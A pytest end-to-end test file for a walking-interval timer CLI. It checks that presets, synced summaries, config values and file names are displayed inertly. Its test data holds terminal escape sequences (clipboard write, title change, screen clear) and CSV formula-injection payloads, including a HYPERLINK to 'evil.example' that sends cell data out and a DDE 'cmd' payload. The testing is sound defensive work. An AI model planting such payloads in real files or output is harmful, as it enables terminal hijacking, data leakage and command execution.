"""Text from files is shown, never obeyed: the real program, fed presets, summaries and a config
that carry terminal escape sequences, spreadsheet formulas and characters the terminal's
encoding cannot show.

Every file here is written as a walker's own or synced file would be: TOML escapes (`\\u001b`)
put the raw control characters into the values walktimer reads.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shlex
import subprocess
import sys
import time
import tomllib
from collections.abc import Sequence
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from tests.conftest import Xdg, require
from tests.e2e.conftest import Terminal, env_for

pytestmark = pytest.mark.e2e

OSC52 = r"\u001b]52;c;aGk=\u001b\\"  # write "hi" to the clipboard
TITLE = r"\u001b]0;pwned\u0007"  # set the window title
CLEAR = r"\u001b[2J"  # wipe the screen
CSI_C1 = r"\u009b"  # the one-character CSI of C1
HOSTILE_WALK = rf"""kind = "walk"
name = "Evil {TITLE} walk"
description = "Clears {CLEAR} the screen {CSI_C1}1m"
warmup = "evil-warm"
cooldown = "none"

[intervals]
fast_seconds = {{fast}}
slow_seconds = 1
rounds = 1
fast_tip = "{OSC52}"
slow_tip = "Easy {CLEAR} now {CSI_C1}31m red"
"""
HOSTILE_WARMUP = rf"""kind = "warmup"
name = "Warm {CSI_C1}31m up"

[[steps]]
name = "March {TITLE}{CSI_C1}"
seconds = 1
tip = "Tip {OSC52} {CLEAR} done"
"""
# C0 (but newline), DEL and C1: none of them may reach a terminal or a CSV cell.
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "sum": "+SUM(1,2)",
    "cmd": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(A1:A2)",
    "tab": "\tindented",
}


def controls(text: str) -> list[str]:
    return CONTROL.findall(text)


def user_presets(xdg: Xdg, fast: int = 1) -> None:
    xdg.presets.mkdir(parents=True, exist_ok=True)
    (xdg.presets / "evil.toml").write_text(HOSTILE_WALK.format(fast=fast))
    (xdg.presets / "evil-warm.toml").write_text(HOSTILE_WARMUP)


NOW = datetime.now().astimezone().replace(second=0, microsecond=0)


def started(minute: int) -> datetime:
    return NOW - timedelta(hours=2, minutes=minute)


def summary_toml(walk_id: str, *, walk: str, notes: str, minute: int = 0) -> str:
    """A summary as another device would sync it, a little before now; `walk_id`, `walk` and
    `notes` are TOML basic-string contents, escapes and all."""
    start = started(minute)
    return f"""schema = 1
id = "{walk_id}"
app_version = "0.1.0"
status = "completed"
started_at = {start.isoformat()}
ended_at = {(start + timedelta(minutes=5)).isoformat()}
walk = "{walk}"
warmup = "none"
cooldown = "none"
planned_seconds = 300
active_seconds = 300.0
paused_seconds = 0.0
rounds_planned = 5
rounds_completed = 5
fast_seconds = 150.0
slow_seconds = 150.0
notes = "{notes}"
phases = []
"""


def hostile_summary(xdg: Xdg) -> None:
    xdg.sessions.mkdir(parents=True, exist_ok=True)
    text = summary_toml(f"evil-{TITLE}", walk=f"evil{TITLE}", notes=f"sore {OSC52} {CLEAR}")
    (xdg.sessions / "evil.toml").write_text(text)
    # A file that cannot be read, named with an escape sequence: the warning names it.
    (xdg.sessions / "broken\x1b]0;pwned\x07.toml").write_text("schema = \n")


def run(
    walktimer_cmd: list[str], xdg: Xdg, *args: str, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [*walktimer_cmd, *args],
        capture_output=True,
        env=env or xdg.env(),
        stdin=subprocess.DEVNULL,
        timeout=60,
    )


def assert_inert(done: subprocess.CompletedProcess[bytes]) -> tuple[str, str]:
    """Standard output and error as text, once shown to hold no control character."""
    out, err = done.stdout.decode(), done.stderr.decode()
    assert not controls(out), out
    assert not controls(err), err
    return out, err


# --- plain mode -----------------------------------------------------------------------------


def test_plain_walk_of_a_hostile_preset_writes_no_control_characters(
    xdg: Xdg, walktimer_cmd: list[str]
) -> None:
    user_presets(xdg)
    done = run(walktimer_cmd, xdg, "run", "evil", "--plain", "--no-prompts", "--audio", "none")
    out, err = assert_inert(done)
    assert done.returncode == 0, err
    # Everything is still there, the controls made visible rather than dropped.
    assert "WARMUP March \ufffd]0;pwned\ufffd\ufffd (0:01)" in out
    assert "\ufffd]52;c;aGk=\ufffd\\" in err
    assert "Easy \ufffd[2J now \ufffd31m red" in err
    assert out.splitlines()[-1] == "00:03 DONE"


def test_a_summary_printed_because_it_could_not_be_saved_holds_no_control_characters(
    tmp_path: Path, xdg: Xdg, walktimer_cmd: list[str]
) -> None:
    user_presets(xdg)
    blocked = tmp_path / "not-a-folder"
    blocked.write_text("")  # the data folder cannot be made: the summary is printed instead
    env = {**xdg.env(), "XDG_DATA_HOME": str(blocked)}
    args = ("run", "evil", "--plain", "--no-prompts", "--audio", "none")
    done = run(walktimer_cmd, xdg, *args, env=env)
    out, _ = assert_inert(done)
    assert done.returncode == 1
    summary = tomllib.loads(out[out.index("schema = ") :])
    assert summary["walk"] == "evil"
    # The exact data, as TOML: the C1 control that TOML may keep raw is written as an escape.
    assert summary["phases"][0]["name"] == "March \x1b]0;pwned\x07\x9b"
    assert "\\u009b" in out


# --- presets --------------------------------------------------------------------------------


def test_presets_list_show_and_validate_of_hostile_presets_write_no_control_characters(
    xdg: Xdg, walktimer_cmd: list[str]
) -> None:
    user_presets(xdg)
    # A broken preset whose file name itself holds an escape sequence.
    (xdg.presets / "bad\x1b]0;pwned\x07.toml").write_text('kind = "walk"\n')
    listed = run(walktimer_cmd, xdg, "presets", "list", env={**xdg.env(), "COLUMNS": "200"})
    out, _ = assert_inert(listed)
    assert listed.returncode == 0
    assert "Evil \ufffd]0;pwned\ufffd walk" in out
    assert "bad\ufffd]0;pwned\ufffd" in out

    shown = run(walktimer_cmd, xdg, "presets", "show", "evil")
    out, _ = assert_inert(shown)
    assert shown.returncode == 0
    assert "Clears \ufffd[2J the screen \ufffd1m" in out
    assert "March \ufffd]0;pwned\ufffd" in out

    broken = run(walktimer_cmd, xdg, "presets", "show", "bad\x1b]0;pwned\x07")
    out, err = assert_inert(broken)
    assert broken.returncode == 2
    assert "bad\ufffd]0;pwned\ufffd.toml: name: missing required key" in out + err

    paths = [str(xdg.presets / "evil.toml"), str(xdg.presets / "bad\x1b]0;pwned\x07.toml")]
    checked = run(walktimer_cmd, xdg, "presets", "validate", *paths)
    out, err = assert_inert(checked)
    assert checked.returncode == 2
    assert 'ok (walk "Evil \ufffd]0;pwned\ufffd walk")' in out
    assert "bad\ufffd]0;pwned\ufffd.toml" in err


def test_a_value_echoed_in_a_problem_is_made_safe_and_cut_to_80_characters(
    tmp_path: Path, xdg: Xdg, walktimer_cmd: list[str]
) -> None:
    long_value = f"{TITLE}{'x' * 200}"
    bad = tmp_path / "bad-first.toml"
    bad.write_text(HOSTILE_WALK.format(fast=1).replace('warmup = "evil-warm"', 'warmup = "none"'))
    bad.write_text(bad.read_text().replace("rounds = 1", f'rounds = 1\nfirst = "{long_value}"'))
    done = run(walktimer_cmd, xdg, "presets", "validate", str(bad))
    _, err = assert_inert(done)
    assert done.returncode == 2
    [line] = err.splitlines()
    echoed = line.split("got ", 1)[1]
    assert echoed.startswith('"\ufffd]0;pwned\ufffdxxx')
    assert len(echoed.strip('"')) == 80


def test_a_config_value_echoed_in_an_error_is_made_safe(xdg: Xdg, walktimer_cmd: list[str]) -> None:
    xdg.config_file.parent.mkdir(parents=True, exist_ok=True)
    xdg.config_file.write_text(f'[audio]\nbackend = "{TITLE}{"y" * 200}"\n')
    done = run(walktimer_cmd, xdg, "audio", "test")  # a command that reads audio.backend
    _, err = assert_inert(done)
    assert done.returncode == 2
    assert "audio.backend" in err
    assert "\ufffd]0;pwned\ufffd" in err
    assert "y" * 100 not in err


# --- history and stats ----------------------------------------------------------------------


def test_history_table_and_warnings_of_a_hostile_summary_write_no_control_characters(
    xdg: Xdg, walktimer_cmd: list[str]
) -> None:
    hostile_summary(xdg)
    done = run(walktimer_cmd, xdg, "history")
    out, err = assert_inert(done)
    assert done.returncode == 0
    assert "evil\ufffd]0;pwned\ufffd" in out
    assert "broken\ufffd]0;pwned\ufffd.toml" in err
    stats = run(walktimer_cmd, xdg, "stats")
    assert_inert(stats)
    assert stats.returncode == 0


def test_history_csv_defuses_formulas_and_controls_and_json_keeps_the_exact_text(
    xdg: Xdg, walktimer_cmd: list[str]
) -> None:
    xdg.sessions.mkdir(parents=True)
    for minute, (key, note) in enumerate(FORMULAS.items()):
        toml_note = json.dumps(note)[1:-1]  # a TOML basic string takes JSON's escapes
        text = summary_toml(f"walk-{key}", walk="classic-30-30", notes=toml_note, minute=minute)
        (xdg.sessions / f"{key}.toml").write_text(text)
    text = summary_toml("-2+3+cmd", walk=f"evil{TITLE}", notes="fine", minute=30)
    (xdg.sessions / "dash.toml").write_text(text)

    exported = run(walktimer_cmd, xdg, "history", "--csv")
    out = exported.stdout.decode()
    assert exported.returncode == 0
    assert not controls(out.replace("\t", "")), out  # a note's tabs are its own, and kept
    rows = list(csv.DictReader(io.StringIO(out)))
    notes = {row["id"]: row["notes"] for row in rows}
    for key, note in FORMULAS.items():
        shown = notes[f"walk-{key}"]
        assert shown == "'" + note
    dash = next(row for row in rows if row["notes"] == "fine")
    assert dash["id"] == "'-2+3+cmd"
    assert dash["walk"] == "evil\ufffd]0;pwned\ufffd"
    assert dash["started_at"] == started(30).isoformat()  # dates and numbers as they are
    assert dash["active_seconds"] == "300.0"

    as_json = run(walktimer_cmd, xdg, "history", "--json")
    assert as_json.returncode == 0
    data = {walk["id"]: walk for walk in json.loads(as_json.stdout)}
    assert {data[f"walk-{key}"]["notes"] for key in FORMULAS} == set(FORMULAS.values())
    assert data["-2+3+cmd"]["walk"] == "evil\x1b]0;pwned\x07"


# --- an output encoding that cannot show every character -------------------------------------

NON_ASCII = r"""kind = "walk"
name = "Über den Hügel → Park · {tag}"
description = "Gemütlich… dann zügig → und zurück"
warmup = "aufwaermen"
cooldown = "none"

[intervals]
fast_seconds = 1
slow_seconds = 1
rounds = 1
fast_tip = "Zügig → los"
"""
NON_ASCII_WARMUP = """kind = "warmup"
name = "Aufwärmen → sanft"

[[steps]]
name = "Schritt → vorwärts…"
seconds = 1
"""


def with_walks_and_a_non_ascii_preset(xdg: Xdg) -> None:
    xdg.presets.mkdir(parents=True)
    (xdg.presets / "huegel.toml").write_text(NON_ASCII.replace("{tag}", "ß"))
    (xdg.presets / "aufwaermen.toml").write_text(NON_ASCII_WARMUP)
    xdg.sessions.mkdir(parents=True)
    for minute in range(3):
        walk = summary_toml(f"w{minute}", walk="huegel", notes="Rücken → besser", minute=minute)
        (xdg.sessions / f"w{minute}.toml").write_text(walk)


def encoding_env(base: dict[str, str], **settings: str) -> dict[str, str]:
    """`base` without any say over the encoding, then `settings`."""
    env = {
        k: v
        for k, v in base.items()
        if not k.startswith(("LC_", "PYTHONIOENCODING", "PYTHONUTF8")) and k != "LANG"
    }
    env.update(settings)
    return env


COMMANDS: Sequence[Sequence[str]] = (
    ("stats",),
    ("history",),
    ("presets", "list"),
    ("presets", "show", "huegel"),
    ("presets", "validate", "{presets}/huegel.toml"),
    ("run", "huegel", "--plain", "--no-prompts", "--audio", "none"),
)


@pytest.mark.parametrize(
    "settings",
    [
        {"PYTHONIOENCODING": "ascii", "LANG": "C"},
        {"PYTHONIOENCODING": "latin-1", "LANG": "C"},
    ],
    ids=["ascii", "latin-1"],
)
def test_commands_print_through_an_encoding_that_cannot_show_every_character(
    settings: dict[str, str], xdg: Xdg, walktimer_cmd: list[str]
) -> None:
    with_walks_and_a_non_ascii_preset(xdg)
    env = encoding_env(xdg.env(), **settings)
    for command in COMMANDS:
        args = [arg.replace("{presets}", str(xdg.presets)) for arg in command]
        done = run(walktimer_cmd, xdg, *args, env=env)
        err = done.stderr.decode(settings["PYTHONIOENCODING"])
        assert done.returncode == 0, f"{shlex.join(args)}:\n{err}"
        assert "Traceback" not in err, err
    # The weekly bars fall back to characters the encoding has.
    stats = run(walktimer_cmd, xdg, "stats", env=env).stdout.decode(settings["PYTHONIOENCODING"])
    assert "?" not in stats, stats


def latin1_locale_works() -> bool:
    probe = subprocess.run(
        [sys.executable, "-c", "import sys; print(sys.stdout.encoding)"],
        capture_output=True,
        text=True,
        env=encoding_env(dict(os.environ), LC_ALL="en_US.ISO-8859-1"),
    )
    return probe.stdout.strip().lower().replace("_", "-") in ("iso-8859-1", "iso8859-1", "latin-1")


def test_commands_print_in_a_latin1_locale(xdg: Xdg, walktimer_cmd: list[str]) -> None:
    require(latin1_locale_works(), "the locale en_US.ISO-8859-1 (locales; localedef)")
    with_walks_and_a_non_ascii_preset(xdg)
    env = encoding_env(xdg.env(), LC_ALL="en_US.ISO-8859-1")
    for command in COMMANDS:
        args = [arg.replace("{presets}", str(xdg.presets)) for arg in command]
        done = run(walktimer_cmd, xdg, *args, env=env)
        err = done.stderr.decode("latin-1")
        assert done.returncode == 0, f"{shlex.join(args)}:\n{err}"
        assert "Traceback" not in err, err


# --- the app, in a real terminal ------------------------------------------------------------


def start_in_tmux(terminal: Terminal, tmp_path: Path, command: list[str], xdg: Xdg) -> None:
    """Like `Terminal.start`, with tmux letting programs set its clipboard (OSC 52), so that a
    sequence that got through would show in `show-buffer`. COLUMNS and LINES, which the test
    process may carry (readline sets them), would pin the app to 80x24: they are dropped."""
    conf = tmp_path / "tmux.conf"
    conf.write_text("set -g set-clipboard on\nset -g allow-rename on\n")
    exports = " ".join(f"{k}={shlex.quote(v)}" for k, v in env_for(xdg).items())
    line = f"env -u COLUMNS -u LINES {exports} {shlex.join(command)}; echo EXIT=$?; sleep 60"
    terminal.run("-f", str(conf), "new-session", "-d", "-s", "walk", "-x", "140", "-y", "45", line)


def title(terminal: Terminal) -> str:
    return terminal.run("display-message", "-p", "-t", "walk", "#{pane_title}|#{window_name}")


def buffers(terminal: Terminal) -> str:
    return terminal.run("list-buffers")


def test_app_walk_screen_shows_hostile_preset_text_without_obeying_it(
    terminal: Terminal, tmp_path: Path, xdg: Xdg, walktimer_cmd: list[str]
) -> None:
    user_presets(xdg, fast=4)
    command = [*walktimer_cmd, "run", "evil", "--no-prompts", "--audio", "none"]
    start_in_tmux(terminal, tmp_path, command, xdg)
    # The warm-up's tip would have cleared the screen, the fast one's would write the clipboard.
    terminal.wait_for(lambda s: "Brisk walk" in s, "the fast interval and its tip")
    time.sleep(1.5)  # the tip has been drawn, and the countdown since
    screen = terminal.screen()
    assert "Evil \ufffd]0;pwned\ufffd walk" in screen
    assert "\ufffd]52;c;aGk=\ufffd\\" in screen
    assert "Round 1/1" in screen and "Pause" in screen, screen  # nothing wiped
    assert "pwned" not in title(terminal)
    assert buffers(terminal) == ""


def test_app_home_and_history_show_hostile_summaries_and_names_without_obeying_them(
    terminal: Terminal, tmp_path: Path, xdg: Xdg, walktimer_cmd: list[str]
) -> None:
    user_presets(xdg)
    hostile_summary(xdg)
    xdg.config_file.parent.mkdir(parents=True, exist_ok=True)
    # no sound: a note on the sound found could cover the text this test reads
    xdg.config_file.write_text('[defaults]\nwalk = "evil"\n\n[audio]\nbackend = "none"\n')
    start_in_tmux(terminal, tmp_path, [*walktimer_cmd], xdg)
    shown_on_home = (
        "Recent walks",
        "evil\ufffd",
        "Clears \ufffd[2J the screen",
        "Warm \ufffd31m up",
    )
    # the walk's details are drawn once home has settled on its choices: wait for all of it
    terminal.wait_for(
        lambda s: all(text in s for text in shown_on_home), "home with the walk and its details"
    )
    terminal.keys("h")
    shown = terminal.wait_for(lambda s: "skipped" in s and "Notes" in s, "the history screen")
    assert "sore \ufffd]52;c;aGk=\ufffd\\ \ufffd[2J" in shown
    assert "broken\ufffd]0;pwned\ufffd.toml" in shown
    assert "pwned" not in title(terminal)
    assert buffers(terminal) == ""
